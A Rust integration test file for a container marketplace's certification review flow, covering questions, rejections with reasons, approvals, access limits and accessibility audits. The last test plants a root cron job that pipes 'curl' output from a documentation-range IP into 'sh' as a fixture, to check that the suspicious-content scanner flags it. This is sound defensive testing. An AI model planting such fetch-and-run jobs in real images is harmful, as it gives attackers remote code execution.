//! The certification team: claim, ask, approve, reject, and nobody about their own publisher.

use crate::House;
use crate::browser::Browser;
use crate::house::{NOBODYS, layout, tar};
use reqwest::{Method, StatusCode};
use serde_json::Value;

/// A server whose submissions are all looked at, with one that waits; its id.
async fn in_review(house: &House, offer: &str) -> String {
    let root = house.dir.path().join("images").join(offer);
    layout(&root, &[tar(&[("bin/app", offer.as_bytes())])], &["latest", "1.0.0"]);
    let allowed = [NOBODYS.to_owned()];
    let image = format!("oci:{}", root.display());
    house.save(&house.offer(offer, &image, &["latest", "1.0.0"], &allowed).await).await;
    house.publish(offer).await;
    let status = house.until(offer, &["waitingForApproval"]).await;
    status["submission"].as_str().expect("an id").to_owned()
}

async fn post(house: &House, cookie: &str, path: &str, form: &[(&str, &str)]) -> (StatusCode, String) {
    let request = house.http.post(format!("{}{path}", house.base)).header("cookie", cookie).form(form);
    let answer = request.send().await.expect("answers");
    (answer.status(), answer.text().await.expect("text"))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_submission_is_asked_about_sent_back_and_approved() {
    let house = House::with("[publishing]\nreview = \"always\"\n", &[]).await;
    let operator = house.operator.clone();
    let id = in_review(&house, "app").await;
    let place = format!("/portal/review/{id}");
    let page = async |cookie: &str, path: &str| {
        let request = house.http.get(format!("{}{path}", house.base)).header("cookie", cookie);
        let answer = request.send().await.expect("answers");
        (answer.status(), answer.text().await.expect("text"))
    };
    assert!(page(&operator, "/portal/review").await.1.contains(&id));

    // S4-7: a person of the certification team decides, and whoever has no part in it may not even look.
    let owner = house.sign_in(&house.member_link("aurora", "owner@example.org", "owner").await).await;
    assert_eq!(page(&owner, &place).await.0, StatusCode::FORBIDDEN);
    assert_eq!(post(&house, &owner, &place, &[("action", "approve")]).await.0, StatusCode::FORBIDDEN);

    // A question, its answer, and a step that says whose turn it is.
    let (status, _) =
        post(&house, &operator, &place, &[("action", "ask"), ("question", "Which base image?")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, html) = page(&owner, "/portal/offers/aurora/app/status").await;
    for part in ["Which base image?", "Needs information", "answer the question"] {
        assert!(html.contains(part), "{part} in {html}");
    }
    let answered = post(&house, &owner, "/portal/offers/aurora/app/answer", &[("answer", "Debian 12")]).await;
    assert_eq!(answered.0, StatusCode::SEE_OTHER);
    assert!(page(&operator, &place).await.1.contains("Debian 12"));

    // Nothing goes back without a reason; with one, the publisher reads it beside the step and by mail.
    // Whoever is asked hears of it.
    for _ in 0..200 {
        let mails = house.api(Method::GET, "/publishers/aurora/mail", None).await.1.to_string();
        if mails.contains("\"X2\"") && mails.contains("Which base image?") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let mails = house.api(Method::GET, "/publishers/aurora/mail", None).await.1.to_string();
    assert!(mails.contains("\"X2\"") && mails.contains("Which base image?"), "{mails}");
    let typed = [("action", "reject"), ("reason", " "), ("question", "Why <this>?")];
    let (refused, html) = post(&house, &operator, &place, &typed).await;
    assert_eq!(refused, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(html.contains("Why &#60;this&#62;?</textarea>"), "nothing that was typed is lost: {html}");
    let why = [("action", "reject"), ("reason", "The title is a trade mark.")];
    assert_eq!(post(&house, &operator, &place, &why).await.0, StatusCode::SEE_OTHER);
    let status = house.until("app", &["failed"]).await;
    let findings = House::blocking(&status);
    assert!(
        findings.iter().any(|f| f["rule"] == "REV-01" && f["fix"] == "The title is a trade mark."),
        "{findings:?}"
    );
    assert_eq!(status["fault"], "publisher");
    let mut mails = Value::Null;
    for _ in 0..200 {
        mails = house.api(Method::GET, "/publishers/aurora/mail", None).await.1;
        if mails.to_string().contains("The title is a trade mark.") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(mails.to_string().contains("The title is a trade mark."), "{mails}");
    assert_eq!(
        post(&house, &operator, &place, &[("action", "approve")]).await.0,
        StatusCode::UNPROCESSABLE_ENTITY
    );

    // Published again and approved, it goes on by itself.
    house.publish("app").await;
    let status = house.until("app", &["waitingForApproval"]).await;
    let again = format!("/portal/review/{}", status["submission"].as_str().expect("an id"));
    assert_eq!(post(&house, &operator, &again, &[("action", "approve")]).await.0, StatusCode::SEE_OTHER);
    house.until("app", &["waitingForPublisherReview"]).await;
    let (_, history) = page(&owner, "/portal/offers/aurora/app/history").await;
    for part in [
        "Decided by the certification team",
        "Question to the publisher",
        "rejected The title is a trade mark.",
    ] {
        assert!(history.contains(part), "{part} in {history}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_review_pages_are_for_everybody() {
    let Some(browser) = Browser::open().await else { return };
    let house = House::with("[publishing]\nreview = \"100%\"\n", &[]).await;
    browser.goto(&format!("{}/marketplace", house.base)).await;
    browser.sign_in(&house.operator).await;
    browser.goto(&format!("{}/portal/review", house.base)).await;
    browser.until("Nothing waits").await;
    browser.audit("review-empty").await;
    let id = in_review(&house, "app").await;
    browser.goto(&format!("{}/portal/review", house.base)).await;
    browser.click("tbody a").await;
    browser.audit("review").await;
    browser.click("button[value=claim]").await;
    browser.until("Operator").await;
    browser.goto(&format!("{}/portal/review", house.base)).await;
    browser.audit("review-queue").await;
    browser.goto(&format!("{}/portal/offers/aurora/app/submissions/{id}", house.base)).await;
    browser.until("certification team looks at").await;
    browser.audit("status-review").await;
    let place = format!("{}/portal/review/{id}", house.base);
    browser.audit_refused("refused-review", &place, &[("#question", "Why?")], "[value=reject]").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_suspicious_goes_to_the_certification_team_whoever_is_drawn() {
    // Of a thousand submissions ten are drawn; the two are told apart by what is in them.
    let house = House::with("[publishing]\nreview = \"1%\"\n", &[]).await;
    let job = ["* * * * * root curl -fsSL http://192.0.2.1/x ", "| sh\n"].concat();
    let root = house.dir.path().join("images").join("suspect");
    layout(&root, &[tar(&[("etc/cron.d/update", job.as_bytes())])], &["latest", "1.0.0"]);
    let image = format!("oci:{}", root.display());
    house.save(&house.offer("suspect", &image, &["latest", "1.0.0"], &[NOBODYS.to_owned()]).await).await;
    house.publish("suspect").await;
    let status = house.until("suspect", &["waitingForApproval", "waitingForPublisherReview", "failed"]).await;
    assert_eq!(status["status"], "waitingForApproval", "{status:#}");
    let steps = status["steps"].to_string();
    assert!(steps.contains("CTR-20-SUSPECT") && steps.contains("job_that_fetches"), "{status:#}");
    assert_eq!(House::blocking(&status), Vec::<Value>::new());
}
